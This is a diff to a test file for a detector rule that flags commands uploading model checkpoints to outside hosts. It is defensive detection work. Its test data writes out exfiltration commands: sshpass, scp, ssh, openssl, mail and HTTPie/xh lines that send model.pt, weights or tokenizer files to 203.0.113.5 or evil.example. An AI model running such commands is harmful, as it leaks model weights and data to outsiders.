@@ -12,7 +12,7 @@ import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { parseAllDocuments } from 'yaml';
 import { defaultRulesDir } from '../rule-files.js';
-import { execRuleIds } from './exec-events.test-support.js';
+import { execRuleIds, SA } from './exec-events.test-support.js';
 
 const U = 'http://203.0.113.5/up';
 const sh = (line: string): string[] => ['sh', '-c', line];
@@ -194,7 +194,26 @@ describe('uploads the tool list did not name (MLS-EXFIL-014)', () => {
       sh(`sudo ssh u@203.0.113.5 "dd of=m" 0</tmp/m.tgz`),
       sh('openssl s_client -quiet -connect 203.0.113.5:443 < /tmp/m.tgz'),
       sh('mail -s report a@evil.example < /mnt/ckpt/tokenizer.json'),
+      sh(`sshpass -f /tmp/p ssh u@203.0.113.5 'cat > m' < /mnt/ckpt/model.pt`),
+      sh(`sshpass -p x scp /mnt/ckpt/model.pt u@203.0.113.5:/x`),
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+  });
+
+  it('alerts on a file HTTPie or xh sends (stdin, a form upload, an embedded field, the raw body), for a person and a service account', () => {
+    for (const line of [
+      `http POST ${U} < /mnt/ckpt/model.pt`,
+      `http -f POST ${U} f@/mnt/ckpt/model.pt`,
+      `https PUT ${U} data:=@./weights.json`,
+      `xh POST ${U} @/mnt/ckpt/model.pt`,
+      `xhs --form ${U} f@~/m.tgz`,
+    ]) {
+      expect(execRuleIds(sh(line)), line).toContain('MLS-EXFIL-014');
+      expect(execRuleIds(sh(line), SA), line).toContain('MLS-EXFIL-014');
+    }
+    // A GET with a header, a form of plain fields, a download, an e-mail in a header, a URL with a user name.
+    for (const line of [`http GET ${U} Authorization:'Bearer t'`, `http -a u:p POST ${U} name=x`, 'http --download https://h/m.pt -o /tmp/m.pt', `xh ${U} From:a@corp.example`, 'http u@h.example/x']) {
+      expect(execRuleIds(sh(line)), line).not.toContain('MLS-EXFIL-014');
+    }
   });
 
   it('alerts on FTP puts, object-store CLIs, hf upload and curl -T given in one word', () => {
